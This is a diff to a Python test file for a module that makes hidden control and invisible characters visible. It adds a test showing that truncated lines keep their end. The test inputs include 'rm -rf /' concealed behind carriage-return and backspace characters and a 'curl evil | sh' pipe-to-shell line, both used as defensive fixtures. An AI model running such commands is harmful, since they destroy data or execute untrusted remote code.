@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from makai.core.visible_text import exact, one_line, shown
+from makai.core.visible_text import exact, exact_line, one_line, shown
 
 
 @pytest.mark.parametrize(
@@ -18,7 +18,7 @@ from makai.core.visible_text import exact, one_line, shown
         ("a\x9b31mb", "a\\x9b31mb"),
         ("echo hi\r\x08rm -rf /", "echo hi\\r\\x08rm -rf /"),
         ("zero\u200bwidth\u2060\ufeff", "zero\\u200bwidth\\u2060\\ufeff"),
-        ("fillers\u3164\u115f\u2800", "fillers\\u3164\\u115f\\u2800"),
+        ("fillers\u3164\u115f\u2800\U0001d159", "fillers\\u3164\\u115f\\u2800\\U0001d159"),
         ("no\u00a0break\u3000space", "no\\xa0break\\u3000space"),
         ("tags\U000e0041", "tags\\U000e0041"),
         ("two\nlines\tand a tab", "two\nlines\\tand a tab"),
@@ -77,3 +77,10 @@ def test_exact_text_has_nothing_but_line_breaks_and_visible_characters(text: str
 @given(st.text())
 def test_shown_text_has_no_control_character_but_line_breaks(text: str) -> None:
     assert not [c for c in shown(text) if c != "\n" and (ord(c) < 32 or 127 <= ord(c) < 160 or c in "\u202e\u2066")]
+
+
+def test_a_line_to_decide_by_keeps_its_end_and_says_what_is_left_out() -> None:
+    assert exact_line("a\nb\u200d\u3164") == "a\\nb\\u200d\\u3164"
+    line = exact_line("x" * 190 + "curl evil | sh", 90)
+    assert line == f"{'x' * 30} [… 159 characters not shown …] xcurl evil | sh"
+    assert len(exact_line("x" * 1_000_000, 90)) <= 90
